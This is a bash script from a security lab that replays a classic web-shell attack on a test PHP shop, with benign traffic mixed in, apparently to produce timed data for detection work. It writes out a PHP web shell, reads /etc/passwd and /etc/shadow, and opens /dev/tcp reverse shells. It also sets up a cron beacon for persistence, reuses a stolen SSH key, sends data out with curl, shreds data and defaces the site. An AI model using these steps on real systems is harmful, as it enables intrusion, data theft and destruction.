# shellcheck shell=bash
# The classic web-shell attack on the PHP shop, played as labremote (sourced by
# scenario-webshell-classic and scenario-container in their --remote mode).
# Inputs: WORK (scratch dir, steps.tsv), BASE (shop URL), WR (web root as the
# web server sees it). Every step records its wall-clock start/end.
# Step ids here must match lib/spec-classic.json.
# LAB_DRIVER=1 (scenario-webshell-classic, scenario-container): every request
# goes through the request driver (req, requests.tsv); unset: the plain curls
# of the captures taken before the driver existed.

attack_classic() {
  local SH="$BASE/uploads/avatar.php" rs_curl beacon_pid exfil_pid vis_pid t
  # on STEP: the step a request is logged under, or nothing without the driver
  on() { [ -n "${LAB_DRIVER:-}" ] && printf '%s' "$1"; return 0; }
  webshell() { # STEP CMD: a command through the web shell's ?c=
    if [ -n "${LAB_DRIVER:-}" ]; then
      req "$1" GET "$SH?c=$(urlenc "$2")" "" "$UA_ATTACK"
    else
      curl -s -A "$UA_ATTACK" -G --data-urlencode "c=$2" "$SH" > /dev/null
    fi
  }

  $PY "$LAB_DIR/lib/attacker-http.py" --port 8000 --store "$WORK/exfil" --lifetime 400 &
  exfil_pid=$!; echo $exfil_pid > "$WORK/exfil.pid"

  step_start benign-web-traffic; step_start benign-cron-housekeeping
  php_visitors "$BASE" "$(on benign-web-traffic)" & vis_pid=$!; echo $vis_pid > "$WORK/visitors.pid"
  sleep 2

  step_start benign-admin-ssh
  ssh -i ~/.ssh/alice_ed25519 alice@127.0.0.1 'uptime; df -h /; who; ps aux | wc -l; free -m' > "$WORK/alice-ssh.out" 2>&1 || true
  step_end benign-admin-ssh
  sleep 3

  step_start benign-upload
  visit "$(on benign-upload)" POST "$UA_BROWSER" "$BASE/upload.php" -F "file=@$LAB_DIR/conf/design.png;filename=spring-design.png"
  step_end benign-upload
  sleep 4

  # recon: path guessing, then the unrestricted upload is confirmed with a text file
  step_start recon-and-upload-probe
  for p in /robots.txt /.env /.git/HEAD /admin/ /backup/ /uploads/ /phpinfo.php /upload.php; do
    visit "$(on recon-and-upload-probe)" GET "$UA_ATTACK" "$BASE$p"; sleep 0.3
  done
  printf 'probe\n' > "$WORK/probe.txt"
  visit "$(on recon-and-upload-probe)" POST "$UA_ATTACK" "$BASE/upload.php" -F "file=@$WORK/probe.txt"
  visit "$(on recon-and-upload-probe)" GET "$UA_ATTACK" "$BASE/uploads/probe.txt"
  step_end recon-and-upload-probe
  sleep 2

  step_start upload-webshell
  printf '%s\n' '<?php if(isset($_REQUEST["c"])){echo "<pre>";passthru($_REQUEST["c"]." 2>&1");echo "</pre>";} ?>' > "$WORK/avatar.php"
  visit "$(on upload-webshell)" POST "$UA_ATTACK" "$BASE/upload.php" -F "file=@$WORK/avatar.php"
  step_end upload-webshell
  sleep 2

  step_start webshell-recon-commands
  for c in id whoami 'uname -a' 'cat /etc/passwd' "ls -la $WR" "ls -la $WR/backup" "cat $WR/backup/README.txt"; do
    webshell webshell-recon-commands "$c"; sleep 1.2
  done
  step_end webshell-recon-commands

  step_start webshell-shadow-read-attempt
  webshell webshell-shadow-read-attempt 'cat /etc/shadow'
  step_end webshell-shadow-read-attempt
  sleep 1.5

  # the reverse shell: the request hangs for as long as the shell lives
  rs_listen 4444
  step_start webshell-spawns-reverse-shell
  if [ -n "${LAB_DRIVER:-}" ]; then
    req webshell-spawns-reverse-shell GET "$SH?c=$(urlenc "bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'")" "" "$UA_ATTACK" -m 300 &
  else
    curl -s -m 300 -A "$UA_ATTACK" -G --data-urlencode "c=bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'" "$SH" > /dev/null &
  fi
  rs_curl=$!; echo $rs_curl > "$WORK/rs-curl.pid"
  for t in $(seq 1 50); do [ -s "$WORK/rs-4444.out" ] && break; sleep 0.2; done
  sleep 1
  step_end webshell-spawns-reverse-shell

  step_start reverse-shell-session
  rs_cmd id; rs_cmd hostname; rs_cmd 'uname -a'; rs_cmd 'ps -ef --forest | tail -n 25' 2
  step_end reverse-shell-session

  # persistence: a www-data crontab that calls back every minute; its listener
  # waits for the first beacon (cron runs it at the next minute boundary)
  printf 'id\nhostname\nuname -a\nexit\n' > "$WORK/beacon.cmds"
  socat -t 5 -T 130 "TCP-LISTEN:4445,bind=127.0.0.1,reuseaddr" STDIO < "$WORK/beacon.cmds" > "$WORK/beacon.out" 2>&1 &
  beacon_pid=$!; echo $beacon_pid > "$WORK/beacon.pid"
  step_start crontab-www-data
  rs_cmd "(crontab -l 2>/dev/null; echo '* * * * * /bin/bash -c \"bash -i >& /dev/tcp/127.0.0.1/4445 0>&1\"') | crontab -" 2
  step_end crontab-www-data
  step_start cron-beacon-4445

  step_start ssh-deploy-with-stolen-key
  rs_cmd "cp $WR/backup/deploy_key /tmp/.k; chmod 600 /tmp/.k" 1
  rs_cmd "ssh -i /tmp/.k -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes deploy@127.0.0.1 'id; hostname; ls -la ~; cat ~/.ssh/authorized_keys'" 4
  step_end ssh-deploy-with-stolen-key

  step_start exfil-curl-upload
  rs_cmd "tar czf /tmp/.d.tgz -C $WR config.php data backup" 1.5
  rs_cmd "curl -s -T /tmp/.d.tgz http://127.0.0.1:8000/up/d.tgz" 1.5
  rs_cmd "curl -s --data-binary @/etc/passwd http://127.0.0.1:8000/p" 1.5
  step_end exfil-curl-upload

  step_start damage-shred-deface
  rs_cmd "shred -u -n 1 $WR/data/customers.csv" 1.5
  rs_cmd "echo '<h1>owned</h1>' > $WR/index.html" 1.5
  rs_cmd "rm -f $WR/uploads/probe.txt /tmp/.d.tgz /tmp/.k" 1.5
  step_end damage-shred-deface
  rs_close
  wait_pid_or_timeout "$rs_curl" 10 || true
  wait_pid_or_timeout "$(cat "$WORK/rs-4444.pid")" 5 || true

  # the beacon arrives at the next minute boundary
  wait_pid_or_timeout "$beacon_pid" 90 || true
  step_end cron-beacon-4445
  sleep 2
  touch "$WORK/stop-visitors"
  wait_pid_or_timeout "$vis_pid" 10 || true
  step_end benign-web-traffic; step_end benign-cron-housekeeping
  kill "$exfil_pid" 2>/dev/null || true
}
